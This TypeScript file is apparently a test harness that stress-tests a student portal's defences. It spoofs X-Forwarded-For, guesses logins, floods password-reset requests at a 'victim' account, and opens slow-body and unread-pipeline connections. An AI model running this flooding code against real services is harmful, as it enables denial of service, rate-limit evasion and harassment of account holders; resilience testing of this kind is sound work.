import { once } from 'node:events';
import { connect } from 'node:net';

/** Where the crowd sends its requests, and the address of an account whose resets it requests. */
export interface CrowdTarget {
  url: string;
  victim: string;
}

/** 200 forged senders at once, in a separate process so that their time is not counted as that of the people they bother. */
const senders = Array.from({ length: 200 }, (_, n) => `198.18.${n}.1`);
const pipelines = 16;

process.once('message', (target: CrowdTarget) => void attack(target));
process.once('disconnect', () => process.exit());

async function attack(target: CrowdTarget): Promise<void> {
  const attacks = [
    ...senders.map((sender) => forEver(() => guess(target, sender))),
    ...senders.slice(0, 20).map((sender) => forEver(() => requestReset(target, sender))),
    ...senders.slice(20, 40).map((sender) => forEver(() => declareBody(target, sender))),
    ...Array.from({ length: pipelines }, () => forEver(() => sendUnread(target))),
  ];
  process.send?.('attacking');
  await Promise.all(attacks);
}

async function forEver(act: () => Promise<unknown>): Promise<never> {
  for (;;) {
    await act().catch(() => {});
    await new Promise((resolve) => setImmediate(resolve));
  }
}

function post({ url }: CrowdTarget, sender: string, path: string, body: object): Promise<string> {
  const headers = { 'Content-Type': 'application/json', Origin: url, 'X-Forwarded-For': sender };
  return fetch(`${url}${path}`, { method: 'POST', headers, body: JSON.stringify(body) }).then((answer) =>
    answer.text(),
  );
}

let guesses = 0;
function guess(target: CrowdTarget, sender: string): Promise<string> {
  guesses += 1;
  const email = `person-${guesses}@students.example`;
  return post(target, sender, '/api/auth/sign-in/email', { email, password: 'a guess' });
}

function requestReset(target: CrowdTarget, sender: string): Promise<string> {
  return post(target, sender, '/api/auth/request-password-reset', { email: target.victim });
}

/** Declares 64 KiB, sends none of it, and leaves. */
async function declareBody(target: CrowdTarget, sender: string): Promise<void> {
  const { hostname, port, host } = new URL(target.url);
  const head = `POST /api/register HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${sender}\r\nContent-Type: application/json\r\n`;
  const socket = connect(Number(port), hostname).on('error', () => {});
  socket.end(`${head}Origin: ${target.url}\r\nContent-Length: 65536\r\n\r\n`);
  socket.resume();
  await once(socket, 'close');
}

/** Sends 64 KiB of requests and reads nothing until the portal closes the connection. */
async function sendUnread(target: CrowdTarget): Promise<void> {
  const { hostname, port, host } = new URL(target.url);
  const request = `GET /api/openapi.json HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const socket = connect(Number(port), hostname).on('error', () => {});
  socket.pause();
  socket.write(request.repeat(Math.ceil(65_536 / request.length)));
  await Promise.race([once(socket, 'close'), new Promise((resolve) => setTimeout(resolve, 2_000))]);
  socket.destroy();
}
